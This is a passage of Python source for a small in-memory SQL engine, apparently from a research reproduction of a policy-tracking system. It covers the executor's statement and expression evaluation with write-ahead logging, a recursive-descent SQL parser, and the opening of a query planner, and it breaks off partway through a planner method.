        """The table names ``statement`` touches (empty for table-less
        SELECTs).  The dialect is single-table, so this is () or a 1-tuple."""
        table = getattr(statement, "table", None)
        return () if table is None else (str(table),)

    # -- durability hooks --------------------------------------------------------

    def _durable(self):
        """The gate a mutate-and-log pair runs under (no-op when the engine
        is not durable).  Acquired *before* the table lock — the ordering
        the durability gate's deadlock-freedom argument relies on — and
        reentrant, so the SQL channel's enclosing gate nests harmlessly."""
        sink = self.durability
        return sink.mutation() if sink is not None else contextlib.nullcontext()

    def _log(self, record: Dict[str, Any]) -> None:
        sink = self.durability
        if sink is not None:
            sink.log(record)

    def _commit_durable(self) -> None:
        """Group-commit the records this statement logged.  Called after the
        table lock is released, so the fsync never extends lock hold time;
        inside an enclosing durable scope (the SQL channel's) it defers to
        that scope's commit."""
        sink = self.durability
        if sink is not None:
            sink.commit()

    @staticmethod
    def _encode_cell(value: Any) -> Any:
        from ..storage.wal import encode_value
        return encode_value(value)

    def _log_rows(self, op: str, table: Table, payload: Dict[str, Any]) -> None:
        """Log a row-level mutation record carrying the table's full column
        list of this moment, so replay materializes lazily-added policy
        columns exactly as the live path did."""
        record = {"op": op, "table": table.name,
                  "columns": list(table.column_names)}
        record.update(payload)
        self._log(record)

    # -- public API -------------------------------------------------------------

    def execute(self, statement) -> Result:
        """Execute a SQL string or a parsed statement."""
        if isinstance(statement, str):
            statement = parse(statement)
        if isinstance(statement, nodes.Select):
            if statement.table is None:
                return self._select(statement)
            with self.locked(statement.table):
                return self._select(statement)
        result = self._execute_mutation(statement)
        self._commit_durable()
        return result

    def _execute_mutation(self, statement) -> Result:
        if isinstance(statement, nodes.CreateTable):
            with self._durable():
                with self.locked(statement.table), self.catalog_lock:
                    return self._create(statement)
        if isinstance(statement, nodes.DropTable):
            with self._durable():
                with self.locked(statement.table), self.catalog_lock:
                    return self._drop(statement)
        if isinstance(statement, nodes.Insert):
            with self._durable():
                with self.locked(statement.table):
                    return self._insert(statement)
        if isinstance(statement, nodes.Update):
            with self._durable():
                with self.locked(statement.table):
                    return self._update(statement)
        if isinstance(statement, nodes.Delete):
            with self._durable():
                with self.locked(statement.table):
                    return self._delete(statement)
        raise SQLError(f"cannot execute {type(statement).__name__}")

    def table(self, name: str) -> Table:
        # Lock-free directory *read*: dict lookups are atomic under the GIL
        # and every mutation of ``self.tables`` happens under the catalog
        # lock.  Taking the catalog lock here would invert the
        # catalog-before-table ordering for callers that already hold a
        # table lock (e.g. Database's compound statements).
        try:
            return self.tables[name]
        except KeyError:
            raise SQLError(f"no such table: {name}") from None

    # -- statement execution ---------------------------------------------------------

    def _create(self, stmt: nodes.CreateTable) -> Result:
        if stmt.table in self.tables:
            if stmt.if_not_exists:
                return Result()
            raise SQLError(f"table {stmt.table} already exists")
        table = Table(stmt.table, stmt.columns)
        self.tables[stmt.table] = table
        self._log({"op": "sql.create", "table": table.name,
                   "columns": [[c.name, c.type, list(c.constraints)]
                               for c in table.columns]})
        return Result()

    def _drop(self, stmt: nodes.DropTable) -> Result:
        if stmt.table not in self.tables:
            if stmt.if_exists:
                return Result()
            raise SQLError(f"no such table: {stmt.table}")
        del self.tables[stmt.table]
        self._log({"op": "sql.drop", "table": stmt.table})
        return Result()

    def _insert(self, stmt: nodes.Insert) -> Result:
        table = self.table(stmt.table)
        for column in stmt.columns:
            if not table.has_column(column):
                raise SQLError(
                    f"table {table.name} has no column {column!r}")
        new_rows: List[Dict[str, Any]] = []
        for row_exprs in stmt.rows:
            row = {name: None for name in table.column_names}
            for column, expr in zip(stmt.columns, row_exprs):
                row[column] = _stored_value(self._evaluate(expr, None, table))
            table.rows.append(row)
            new_rows.append(row)
        if new_rows and self.durability is not None:
            self._log_rows("sql.insert", table, {"rows": [
                [self._encode_cell(row[name]) for name in table.column_names]
                for row in new_rows]})
        return Result(rowcount=len(new_rows))

    def _select(self, stmt: nodes.Select) -> Result:
        if stmt.table is None:
            # SELECT without FROM: evaluate items against an empty row.
            columns = [item.output_name for item in stmt.items]
            values = [self._evaluate(item.expr, {}, None)
                      for item in stmt.items]
            return Result(columns, [values])

        table = self.table(stmt.table)
        matching = [row for row in table.rows
                    if self._matches(stmt.where, row, table)]

        if self._is_aggregate_select(stmt):
            columns = [item.output_name for item in stmt.items]
            values = [self._evaluate_aggregate(item.expr, matching, table)
                      for item in stmt.items]
            return Result(columns, [values])

        for ordering in reversed(stmt.order_by):
            matching = sorted(
                matching,
                key=lambda row: _sort_key(
                    self._evaluate(ordering.expr, row, table)),
                reverse=ordering.descending)

        if stmt.offset:
            matching = matching[stmt.offset:]
        if stmt.limit is not None:
            matching = matching[:stmt.limit]

        columns: List[str] = []
        for item in stmt.items:
            if isinstance(item.expr, nodes.Star):
                columns.extend(table.column_names)
            else:
                columns.append(item.output_name)

        result_rows: List[List[Any]] = []
        seen = set()
        for row in matching:
            values: List[Any] = []
            for item in stmt.items:
                if isinstance(item.expr, nodes.Star):
                    values.extend(row[name] for name in table.column_names)
                else:
                    values.append(self._evaluate(item.expr, row, table))
            if stmt.distinct:
                key = tuple(str(v) for v in values)
                if key in seen:
                    continue
                seen.add(key)
            result_rows.append(values)
        return Result(columns, result_rows)

    def _update(self, stmt: nodes.Update) -> Result:
        table = self.table(stmt.table)
        for column, _ in stmt.assignments:
            if not table.has_column(column):
                raise SQLError(
                    f"table {table.name} has no column {column!r}")
        touched: List[int] = []
        for index, row in enumerate(table.rows):
            if self._matches(stmt.where, row, table):
                for column, expr in stmt.assignments:
                    row[column] = _stored_value(
                        self._evaluate(expr, row, table))
                touched.append(index)
        if touched and self.durability is not None:
            # Full row images, not expressions: replay is exact regardless
            # of what the SET expressions computed from.
            self._log_rows("sql.update", table, {"updates": [
                [index, [self._encode_cell(table.rows[index][name])
                         for name in table.column_names]]
                for index in touched]})
        return Result(rowcount=len(touched))

    def _delete(self, stmt: nodes.Delete) -> Result:
        table = self.table(stmt.table)
        keep: List[Dict[str, Any]] = []
        doomed: List[int] = []
        for index, row in enumerate(table.rows):
            if self._matches(stmt.where, row, table):
                doomed.append(index)
            else:
                keep.append(row)
        table.rows = keep
        if doomed and self.durability is not None:
            self._log_rows("sql.delete", table, {"indices": doomed})
        return Result(rowcount=len(doomed))

    # -- expression evaluation -----------------------------------------------------------

    def _matches(self, where: Optional[nodes.Expr],
                 row: Dict[str, Any], table: Table) -> bool:
        if where is None:
            return True
        return bool(self._evaluate(where, row, table))

    def _is_aggregate_select(self, stmt: nodes.Select) -> bool:
        return any(isinstance(item.expr, nodes.FuncCall)
                   and item.expr.name in ("count", "min", "max", "sum", "avg")
                   for item in stmt.items)

    def _evaluate_aggregate(self, expr: nodes.Expr,
                            rows: List[Dict[str, Any]],
                            table: Table) -> Any:
        if isinstance(expr, nodes.FuncCall):
            name = expr.name
            if name == "count":
                if expr.star or not expr.args:
                    return len(rows)
                values = [self._evaluate(expr.args[0], row, table)
                          for row in rows]
                return sum(1 for v in values if v is not None)
            if name in ("min", "max", "sum", "avg"):
                values = [self._evaluate(expr.args[0], row, table)
                          for row in rows]
                values = [v for v in values if v is not None]
                if not values:
                    return None
                if name == "min":
                    return min(values)
                if name == "max":
                    return max(values)
                if name == "sum":
                    return sum(values)
                return sum(values) / len(values)
        # Non-aggregate expression in an aggregate query: evaluate against
        # the first matching row (MySQL-ish permissiveness).
        return self._evaluate(expr, rows[0] if rows else {}, table)

    def _evaluate(self, expr: nodes.Expr, row: Optional[Dict[str, Any]],
                  table: Optional[Table]) -> Any:
        if isinstance(expr, nodes.Literal):
            return expr.value
        if isinstance(expr, nodes.ColumnRef):
            if row is None:
                raise SQLError(
                    f"column {expr.name!r} is not allowed in this context")
            if expr.name in row:
                return row[expr.name]
            if table is not None and not table.has_column(expr.name):
                raise SQLError(
                    f"no such column: {expr.name}")
            return None
        if isinstance(expr, nodes.UnaryOp):
            value = self._evaluate(expr.operand, row, table)
            if expr.op == "not":
                return not bool(value)
            raise SQLError(f"unsupported unary operator {expr.op}")
        if isinstance(expr, nodes.BinaryOp):
            return self._binary(expr, row, table)
        if isinstance(expr, nodes.InList):
            value = self._evaluate(expr.operand, row, table)
            members = [self._evaluate(item, row, table)
                       for item in expr.items]
            found = any(_sql_equal(value, member) for member in members)
            return (not found) if expr.negated else found
        if isinstance(expr, nodes.IsNull):
            value = self._evaluate(expr.operand, row, table)
            return (value is not None) if expr.negated else (value is None)
        if isinstance(expr, nodes.FuncCall):
            return self._scalar_function(expr, row, table)
        if isinstance(expr, nodes.Star):
            raise SQLError("'*' is not allowed in this context")
        raise SQLError(f"cannot evaluate {type(expr).__name__}")

    def _binary(self, expr: nodes.BinaryOp, row, table) -> Any:
        op = expr.op
        if op == "and":
            return bool(self._evaluate(expr.left, row, table)) and \
                bool(self._evaluate(expr.right, row, table))
        if op == "or":
            return bool(self._evaluate(expr.left, row, table)) or \
                bool(self._evaluate(expr.right, row, table))
        left = self._evaluate(expr.left, row, table)
        right = self._evaluate(expr.right, row, table)
        if op == "=":
            return _sql_equal(left, right)
        if op == "!=":
            return not _sql_equal(left, right)
        if op == "like":
            return _sql_like(left, right)
        if left is None or right is None:
            return False
        left, right = _coerce_pair(left, right)
        if op == "<":
            return left < right
        if op == "<=":
            return left <= right
        if op == ">":
            return left > right
        if op == ">=":
            return left >= right
        raise SQLError(f"unsupported operator {op!r}")

    def _scalar_function(self, expr: nodes.FuncCall, row, table) -> Any:
        args = [self._evaluate(arg, row, table) for arg in expr.args]
        name = expr.name
        if name == "lower":
            return None if args[0] is None else str(args[0]).lower()
        if name == "upper":
            return None if args[0] is None else str(args[0]).upper()
        if name == "length":
            return None if args[0] is None else len(str(args[0]))
        if name in ("count", "min", "max", "sum", "avg"):
            raise SQLError(
                f"aggregate {name}() not allowed in this context")
        raise SQLError(f"unknown function {name!r}")


def _stored_value(value):
    """Values stored in a table are plain Python objects.

    The engine stands in for an external database server: data crossing into
    it loses its in-runtime policy annotations, exactly like data sent to a
    real MySQL would.  Policies survive the round trip only through the
    policy columns maintained by :class:`repro.channels.sqlchan.Database` —
    which is the point of the paper's persistent-policy mechanism.
    """
    from ..tracking.propagation import strip_policies
    return strip_policies(value)


def _coerce_pair(left, right):
    """Coerce operands for comparison (numeric strings compare numerically
    with numbers, everything else compares as strings)."""
    if isinstance(left, (int, float)) and isinstance(right, (int, float)):
        return left, right
    if isinstance(left, (int, float)) or isinstance(right, (int, float)):
        try:
            return float(left), float(right)
        except (TypeError, ValueError):
            return str(left), str(right)
    return str(left), str(right)


def _sql_equal(left, right) -> bool:
    if left is None or right is None:
        return False
    left, right = _coerce_pair(left, right)
    return left == right


def _sql_like(value, pattern) -> bool:
    if value is None or pattern is None:
        return False
    regex = re.escape(str(pattern)).replace("%", ".*").replace("_", ".")
    return re.fullmatch(regex, str(value), re.IGNORECASE) is not None


def _sort_key(value):
    """Total ordering across NULLs, numbers and strings."""
    if value is None:
        return (0, "", 0)
    if isinstance(value, (int, float)):
        return (1, "", float(value))
    return (2, str(value), 0)
