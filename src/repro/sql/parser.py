"""Recursive-descent SQL parser.

Produces :mod:`repro.sql.nodes` AST from a token stream.  The supported
dialect covers what the paper's applications need: CREATE/DROP TABLE, INSERT,
SELECT (WHERE / ORDER BY / LIMIT / aggregates), UPDATE and DELETE, with the
usual comparison operators, ``AND``/``OR``/``NOT``, ``LIKE``, ``IN`` and
``IS [NOT] NULL``.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from ..core.exceptions import SQLError
from . import nodes
from .tokenizer import (EOF, IDENT, KEYWORD, NUMBER, OP, PARAM, PUNCT, STRING,
                        Token, tokenize)

_TYPE_KEYWORDS = {"integer", "int", "text", "real", "float", "varchar", "char"}
_AGGREGATES = {"count", "min", "max", "sum", "avg"}
_FUNCTIONS = _AGGREGATES | {"lower", "upper", "length"}


class Parser:
    """Parses one SQL statement."""

    def __init__(self, sql):
        self.sql = sql
        self.tokens: List[Token] = tokenize(sql)
        self.position = 0

    # -- token helpers ---------------------------------------------------------

    @property
    def current(self) -> Token:
        return self.tokens[self.position]

    def advance(self) -> Token:
        token = self.current
        if token.type != EOF:
            self.position += 1
        return token

    def check(self, type: str, value=None) -> bool:
        return self.current.matches(type, value)

    def accept(self, type: str, value=None) -> Optional[Token]:
        if self.check(type, value):
            return self.advance()
        return None

    def expect(self, type: str, value=None) -> Token:
        if not self.check(type, value):
            expected = value if value is not None else type
            raise SQLError(
                f"expected {expected!r}, found {self.current.value!r} in "
                f"query: {str(self.sql)[:200]}")
        return self.advance()

    def expect_ident(self) -> str:
        # Unreserved keywords may double as identifiers (e.g. a column named
        # "key"); accept either token type.
        if self.check(IDENT) or self.check(KEYWORD):
            return str(self.advance().value)
        raise SQLError(f"expected identifier, found {self.current.value!r}")

    # -- entry point -------------------------------------------------------------

    def parse(self) -> nodes.Statement:
        statement = self._statement()
        self.accept(PUNCT, ";")
        if not self.check(EOF):
            raise SQLError(
                f"unexpected trailing input near {self.current.value!r}")
        return statement

    def _statement(self) -> nodes.Statement:
        if self.accept(KEYWORD, "explain"):
            statement = self._statement()
            if isinstance(statement, nodes.Explain):
                raise SQLError("EXPLAIN cannot be nested")
            return nodes.Explain(statement)
        if self.check(KEYWORD, "create"):
            return self._create()
        if self.check(KEYWORD, "drop"):
            return self._drop()
        if self.check(KEYWORD, "insert"):
            return self._insert()
        if self.check(KEYWORD, "select"):
            return self._select()
        if self.check(KEYWORD, "update"):
            return self._update()
        if self.check(KEYWORD, "delete"):
            return self._delete()
        raise SQLError(f"unsupported statement: {str(self.sql)[:200]}")

    # -- statements ------------------------------------------------------------------

    def _create(self) -> nodes.Statement:
        self.expect(KEYWORD, "create")
        if self.accept(KEYWORD, "index"):
            return self._create_index()
        self.expect(KEYWORD, "table")
        if_not_exists = False
        if self.accept(KEYWORD, "if"):
            self.expect(KEYWORD, "not")
            self.expect(KEYWORD, "exists")
            if_not_exists = True
        table = self.expect_ident()
        self.expect(PUNCT, "(")
        columns = [self._column_def()]
        while self.accept(PUNCT, ","):
            columns.append(self._column_def())
        self.expect(PUNCT, ")")
        return nodes.CreateTable(table, columns, if_not_exists)

    def _column_def(self) -> nodes.ColumnDef:
        name = self.expect_ident()
        column_type = "TEXT"
        if self.current.type == KEYWORD and self.current.value in _TYPE_KEYWORDS:
            column_type = str(self.advance().value).upper()
            if self.accept(PUNCT, "("):
                self.expect(NUMBER)
                self.expect(PUNCT, ")")
        constraints: List[str] = []
        while True:
            if self.accept(KEYWORD, "primary"):
                self.expect(KEYWORD, "key")
                constraints.append("PRIMARY KEY")
            elif self.accept(KEYWORD, "not"):
                self.expect(KEYWORD, "null")
                constraints.append("NOT NULL")
            elif self.accept(KEYWORD, "unique"):
                constraints.append("UNIQUE")
            elif self.accept(KEYWORD, "autoincrement"):
                constraints.append("AUTOINCREMENT")
            elif self.accept(KEYWORD, "default"):
                literal = self._primary()
                constraints.append(f"DEFAULT {literal.to_sql()}")
            else:
                break
        return nodes.ColumnDef(name, column_type, constraints)

    def _create_index(self) -> nodes.CreateIndex:
        if_not_exists = False
        if self.accept(KEYWORD, "if"):
            self.expect(KEYWORD, "not")
            self.expect(KEYWORD, "exists")
            if_not_exists = True
        name = self.expect_ident()
        self.expect(KEYWORD, "on")
        table = self.expect_ident()
        self.expect(PUNCT, "(")
        column = self.expect_ident()
        self.expect(PUNCT, ")")
        kind = "sorted"
        if self.accept(KEYWORD, "using"):
            kind = self.expect_ident().lower()
        return nodes.CreateIndex(name, table, column, kind, if_not_exists)

    def _drop(self) -> nodes.Statement:
        self.expect(KEYWORD, "drop")
        if self.accept(KEYWORD, "index"):
            if_exists = False
            if self.accept(KEYWORD, "if"):
                self.expect(KEYWORD, "exists")
                if_exists = True
            return nodes.DropIndex(self.expect_ident(), if_exists)
        self.expect(KEYWORD, "table")
        if_exists = False
        if self.accept(KEYWORD, "if"):
            self.expect(KEYWORD, "exists")
            if_exists = True
        return nodes.DropTable(self.expect_ident(), if_exists)

    def _insert(self) -> nodes.Insert:
        self.expect(KEYWORD, "insert")
        self.expect(KEYWORD, "into")
        table = self.expect_ident()
        self.expect(PUNCT, "(")
        columns = [self.expect_ident()]
        while self.accept(PUNCT, ","):
            columns.append(self.expect_ident())
        self.expect(PUNCT, ")")
        self.expect(KEYWORD, "values")
        rows = [self._value_tuple(len(columns))]
        while self.accept(PUNCT, ","):
            rows.append(self._value_tuple(len(columns)))
        return nodes.Insert(table, columns, rows)

    def _value_tuple(self, expected_arity: int) -> List[nodes.Expr]:
        self.expect(PUNCT, "(")
        values = [self._expression()]
        while self.accept(PUNCT, ","):
            values.append(self._expression())
        self.expect(PUNCT, ")")
        if len(values) != expected_arity:
            raise SQLError(
                f"INSERT arity mismatch: {len(values)} values for "
                f"{expected_arity} columns")
        return values

    def _select(self) -> nodes.Select:
        self.expect(KEYWORD, "select")
        distinct = bool(self.accept(KEYWORD, "distinct"))
        items = [self._select_item()]
        while self.accept(PUNCT, ","):
            items.append(self._select_item())
        table = None
        if self.accept(KEYWORD, "from"):
            table = self.expect_ident()
        where = None
        if self.accept(KEYWORD, "where"):
            where = self._expression()
        order_by: List[nodes.OrderBy] = []
        if self.accept(KEYWORD, "order"):
            self.expect(KEYWORD, "by")
            order_by.append(self._ordering())
            while self.accept(PUNCT, ","):
                order_by.append(self._ordering())
        limit = offset = None
        if self.accept(KEYWORD, "limit"):
            limit = int(self.expect(NUMBER).value)
            if self.accept(KEYWORD, "offset"):
                offset = int(self.expect(NUMBER).value)
        return nodes.Select(items, table, where, order_by, limit, offset,
                            distinct)

    def _select_item(self) -> nodes.SelectItem:
        if self.accept(PUNCT, "*"):
            return nodes.SelectItem(nodes.Star())
        expr = self._expression()
        alias = None
        if self.accept(KEYWORD, "as"):
            alias = self.expect_ident()
        elif self.check(IDENT):
            alias = str(self.advance().value)
        return nodes.SelectItem(expr, alias)

    def _ordering(self) -> nodes.OrderBy:
        expr = self._expression()
        descending = False
        if self.accept(KEYWORD, "desc"):
            descending = True
        else:
            self.accept(KEYWORD, "asc")
        return nodes.OrderBy(expr, descending)

    def _update(self) -> nodes.Update:
        self.expect(KEYWORD, "update")
        table = self.expect_ident()
        self.expect(KEYWORD, "set")
        assignments: List[Tuple[str, nodes.Expr]] = [self._assignment()]
        while self.accept(PUNCT, ","):
            assignments.append(self._assignment())
        where = None
        if self.accept(KEYWORD, "where"):
            where = self._expression()
        return nodes.Update(table, assignments, where)

    def _assignment(self) -> Tuple[str, nodes.Expr]:
        column = self.expect_ident()
        self.expect(OP, "=")
        return column, self._expression()

    def _delete(self) -> nodes.Delete:
        self.expect(KEYWORD, "delete")
        self.expect(KEYWORD, "from")
        table = self.expect_ident()
        where = None
        if self.accept(KEYWORD, "where"):
            where = self._expression()
        return nodes.Delete(table, where)

    # -- expressions -----------------------------------------------------------------

    def _expression(self) -> nodes.Expr:
        return self._or_expr()

    def _or_expr(self) -> nodes.Expr:
        left = self._and_expr()
        while self.accept(KEYWORD, "or"):
            left = nodes.BinaryOp("or", left, self._and_expr())
        return left

    def _and_expr(self) -> nodes.Expr:
        left = self._not_expr()
        while self.accept(KEYWORD, "and"):
            left = nodes.BinaryOp("and", left, self._not_expr())
        return left

    def _not_expr(self) -> nodes.Expr:
        if self.accept(KEYWORD, "not"):
            return nodes.UnaryOp("not", self._not_expr())
        return self._comparison()

    def _comparison(self) -> nodes.Expr:
        left = self._primary()
        if self.current.type == OP:
            op = str(self.advance().value)
            return nodes.BinaryOp(op, left, self._primary())
        if self.accept(KEYWORD, "like"):
            return nodes.BinaryOp("like", left, self._primary())
        if self.check(KEYWORD, "not"):
            saved = self.position
            self.advance()
            if self.accept(KEYWORD, "like"):
                return nodes.UnaryOp(
                    "not", nodes.BinaryOp("like", left, self._primary()))
            if self.accept(KEYWORD, "in"):
                return self._in_list(left, negated=True)
            self.position = saved
            return left
        if self.accept(KEYWORD, "in"):
            return self._in_list(left, negated=False)
        if self.accept(KEYWORD, "is"):
            negated = bool(self.accept(KEYWORD, "not"))
            self.expect(KEYWORD, "null")
            return nodes.IsNull(left, negated)
        return left

    def _in_list(self, operand: nodes.Expr, negated: bool) -> nodes.Expr:
        self.expect(PUNCT, "(")
        items = [self._expression()]
        while self.accept(PUNCT, ","):
            items.append(self._expression())
        self.expect(PUNCT, ")")
        return nodes.InList(operand, items, negated)

    def _primary(self) -> nodes.Expr:
        if self.accept(PUNCT, "("):
            expr = self._expression()
            self.expect(PUNCT, ")")
            return expr
        if self.check(OP, "-") or self.check(OP, "+"):
            sign = str(self.advance().value)
            operand = self._primary()
            if sign == "+":
                return operand
            if isinstance(operand, nodes.Literal) \
                    and isinstance(operand.value, (int, float)):
                return nodes.Literal(-operand.value)
            raise SQLError("unary minus is only supported on numeric literals")
        if self.check(STRING):
            return nodes.Literal(self.advance().value)
        if self.check(NUMBER):
            return nodes.Literal(self.advance().value)
        if self.accept(KEYWORD, "null"):
            return nodes.Literal(None)
        if self.check(PARAM):
            return nodes.Param(str(self.advance().value))
        if (self.current.type in (IDENT, KEYWORD)
                and str(self.current.value).lower() in _FUNCTIONS
                and self.tokens[self.position + 1].matches(PUNCT, "(")):
            name = str(self.advance().value)
            self.expect(PUNCT, "(")
            if self.accept(PUNCT, "*"):
                self.expect(PUNCT, ")")
                return nodes.FuncCall(name, [], star=True)
            args = [self._expression()]
            while self.accept(PUNCT, ","):
                args.append(self._expression())
            self.expect(PUNCT, ")")
            return nodes.FuncCall(name, args)
        if self.check(IDENT) or self.check(KEYWORD):
            name = self.expect_ident()
            if self.accept(PUNCT, "."):
                if self.accept(PUNCT, "*"):
                    return nodes.Star(name)
                return nodes.ColumnRef(self.expect_ident(), table=name)
            return nodes.ColumnRef(name)
        raise SQLError(
            f"unexpected token {self.current.value!r} in expression")


def parse(sql) -> nodes.Statement:
    """Parse one SQL statement into an AST."""
    return Parser(sql).parse()
