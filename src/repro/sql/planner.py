"""Query planner: parsed statements → explicit plan trees.

The planner sits between :mod:`repro.sql.parser` and
:mod:`repro.sql.executor`.  It inspects a statement plus the target table's
index catalog and produces a tree of plan nodes; the executor walks the
tree.  Plans are cheap to build (a few conjunct inspections), so the engine
re-plans on every execution — there is no cached-plan staleness to reason
about when indexes or schemas change between runs.

Access-path selection is deliberately conservative: an ``IndexLookup`` or
``IndexRange`` node only *narrows* the scan to a candidate superset (see
:mod:`repro.sql.indexes`), and the full WHERE clause is always re-applied
by a ``Filter`` node above it.  Every plan therefore evaluates exactly the
same predicate on exactly the rows it returns as a sequential scan would —
index use can change performance, never results.

EXPLAIN text contract (stable; tests and docs rely on it): one node per
line, two-space indentation per tree level, the node name first.  Example::

    Project [*]
      Filter (email = 'pc@example.org')
        IndexLookup users.email USING idx_users_email (sorted) probes=['pc@example.org']
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional, Sequence, Set, Tuple

from ..core.exceptions import SQLError
from . import nodes

__all__ = [
    "Plan",
    "SeqScan",
    "IndexLookup",
    "IndexRange",
    "Filter",
    "Project",
    "Aggregate",
    "Sort",
    "Slice",
    "ScalarSelect",
    "InsertPlan",
    "UpdatePlan",
    "DeletePlan",
    "Planner",
    "bind_parameters",
    "collect_params",
]

#: Aggregate function names (mirrors the parser's set).
AGGREGATES = ("count", "min", "max", "sum", "avg")


def _sql(expr: Optional[nodes.Node]) -> str:
    return "" if expr is None else str(expr.to_sql())


class Plan:
    """Base plan node.  ``children`` and ``describe`` drive EXPLAIN."""

    children: Tuple["Plan", ...] = ()

    def describe(self) -> str:
        raise NotImplementedError

    def explain(self) -> List[str]:
        """The stable EXPLAIN rendering of this subtree."""
        lines = [self.describe()]
        for child in self.children:
            lines.extend("  " + line for line in child.explain())
        return lines

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.describe()!r})"


class SeqScan(Plan):
    """Scan every row of a table in storage order."""

    def __init__(self, table: str):
        self.table = table

    def describe(self) -> str:
        return f"SeqScan {self.table}"


class IndexLookup(Plan):
    """Probe an index for equality candidates (``=`` or ``IN``)."""

    def __init__(
        self,
        table: str,
        index: str,
        column: str,
        kind: str,
        probes: Sequence[nodes.Expr],
    ):
        self.table = table
        self.index = index
        self.column = column
        self.kind = kind
        self.probes = list(probes)

    def describe(self) -> str:
        rendered = ", ".join(_sql(p) for p in self.probes)
        return (
            f"IndexLookup {self.table}.{self.column} USING {self.index} "
            f"({self.kind}) probes=[{rendered}]"
        )


class IndexRange(Plan):
    """Walk a sorted index between two (inclusive candidate) bounds."""

    def __init__(
        self,
        table: str,
        index: str,
        column: str,
        lo: Optional[nodes.Expr],
        lo_op: Optional[str],
        hi: Optional[nodes.Expr],
        hi_op: Optional[str],
    ):
        self.table = table
        self.index = index
        self.column = column
        self.lo = lo
        self.lo_op = lo_op
        self.hi = hi
        self.hi_op = hi_op

    def describe(self) -> str:
        parts = []
        if self.lo is not None:
            parts.append(f"{self.lo_op} {_sql(self.lo)}")
        if self.hi is not None:
            parts.append(f"{self.hi_op} {_sql(self.hi)}")
        bounds = ", ".join(parts)
        return (f"IndexRange {self.table}.{self.column} USING {self.index} "
                f"(sorted) [{bounds}]")


class Filter(Plan):
    """Re-check the full WHERE clause against each candidate row."""

    children: Tuple[Plan, ...]

    def __init__(self, child: Plan, predicate: nodes.Expr):
        self.children = (child,)
        self.predicate = predicate

    def describe(self) -> str:
        return f"Filter {_sql(self.predicate)}"


class Project(Plan):
    """Evaluate the SELECT items (and DISTINCT) over the child's rows."""

    def __init__(
        self, child: Plan, table: str, items: Sequence[nodes.SelectItem], distinct: bool
    ):
        self.children = (child,)
        self.table = table
        self.items = list(items)
        self.distinct = distinct

    def describe(self) -> str:
        rendered = ", ".join(_sql(item) for item in self.items)
        suffix = " DISTINCT" if self.distinct else ""
        return f"Project [{rendered}]{suffix}"


class Aggregate(Plan):
    """Fold the child's rows through aggregate select items."""

    def __init__(self, child: Plan, table: str, items: Sequence[nodes.SelectItem]):
        self.children = (child,)
        self.table = table
        self.items = list(items)

    def describe(self) -> str:
        rendered = ", ".join(_sql(item) for item in self.items)
        return f"Aggregate [{rendered}]"


class Sort(Plan):
    """Stable multi-key sort (applied last-key-first, like the engine)."""

    def __init__(self, child: Plan, table: str, order_by: Sequence[nodes.OrderBy]):
        self.children = (child,)
        self.table = table
        self.order_by = list(order_by)

    def describe(self) -> str:
        rendered = ", ".join(_sql(o) for o in self.order_by)
        return f"Sort [{rendered}]"


class Slice(Plan):
    """OFFSET / LIMIT applied to the (possibly sorted) row stream."""

    def __init__(self, child: Plan, limit: Optional[int], offset: Optional[int]):
        self.children = (child,)
        self.limit = limit
        self.offset = offset

    def describe(self) -> str:
        parts = []
        if self.limit is not None:
            parts.append(f"LIMIT {self.limit}")
        if self.offset:
            parts.append(f"OFFSET {self.offset}")
        return "Slice " + " ".join(parts)


class ScalarSelect(Plan):
    """A table-less SELECT evaluated against one empty row."""

    def __init__(self, items: Sequence[nodes.SelectItem]):
        self.items = list(items)

    def describe(self) -> str:
        rendered = ", ".join(_sql(item) for item in self.items)
        return f"ScalarSelect [{rendered}]"


class InsertPlan(Plan):
    def __init__(self, statement: nodes.Insert):
        self.statement = statement

    def describe(self) -> str:
        stmt = self.statement
        return (f"Insert {stmt.table} ({len(stmt.rows)} "
                f"row{'s' if len(stmt.rows) != 1 else ''})")


class UpdatePlan(Plan):
    """Collect matching positions from ``source``, then apply SET."""

    def __init__(self, statement: nodes.Update, source: Plan):
        self.children = (source,)
        self.statement = statement
        self.source = source

    def describe(self) -> str:
        stmt = self.statement
        columns = ", ".join(column for column, _ in stmt.assignments)
        return f"Update {stmt.table} SET [{columns}]"


class DeletePlan(Plan):
    """Collect matching positions from ``source``, then delete them."""

    def __init__(self, statement: nodes.Delete, source: Plan):
        self.children = (source,)
        self.statement = statement
        self.source = source

    def describe(self) -> str:
        return f"Delete {self.statement.table}"


# -- planning -------------------------------------------------------------------


def _is_constant(expr: nodes.Expr) -> bool:
    """Probe expressions an index can be driven by: values known at
    execution time without a row (literals and bound-later parameters)."""
    return isinstance(expr, (nodes.Literal, nodes.Param))


def _conjuncts(expr: Optional[nodes.Expr]) -> List[nodes.Expr]:
    """Flatten the AND-tree of a WHERE clause into its conjuncts."""
    if expr is None:
        return []
    if isinstance(expr, nodes.BinaryOp) and expr.op == "and":
        return _conjuncts(expr.left) + _conjuncts(expr.right)
    return [expr]


_FLIP = {"<": ">", "<=": ">=", ">": "<", ">=": "<="}


class Planner:
    """Builds plan trees from statements against an engine's catalog.

    ``engine`` is duck-typed: the planner only reads ``engine.tables`` —
    a mapping of table name → object with ``column_names`` and ``indexes``
    (name → :class:`~repro.sql.indexes.SecondaryIndex`) attributes.
    """

    def __init__(self, engine):
        self.engine = engine

    def plan(self, statement: nodes.Statement) -> Plan:
        if isinstance(statement, nodes.Explain):
            return self.plan(statement.statement)
        if isinstance(statement, nodes.Select):
            return self.plan_select(statement)
        if isinstance(statement, nodes.Insert):
            return InsertPlan(statement)
        if isinstance(statement, nodes.Update):
            source = self._scan(statement.table, statement.where)
            return UpdatePlan(statement, source)
        if isinstance(statement, nodes.Delete):
            source = self._scan(statement.table, statement.where)
            return DeletePlan(statement, source)
        raise SQLError(f"cannot plan {type(statement).__name__}")

    def plan_select(self, stmt: nodes.Select) -> Plan:
        if stmt.table is None:
            return ScalarSelect(stmt.items)
        child = self._scan(stmt.table, stmt.where)
        if self._is_aggregate(stmt):
            # Aggregates ignore ORDER BY / LIMIT, exactly like the
            # reference scan path.
            return Aggregate(child, stmt.table, stmt.items)
        if stmt.order_by:
            child = Sort(child, stmt.table, stmt.order_by)
        if stmt.limit is not None or stmt.offset:
            child = Slice(child, stmt.limit, stmt.offset)
        return Project(child, stmt.table, stmt.items, stmt.distinct)

    @staticmethod
    def _is_aggregate(stmt: nodes.Select) -> bool:
        return any(
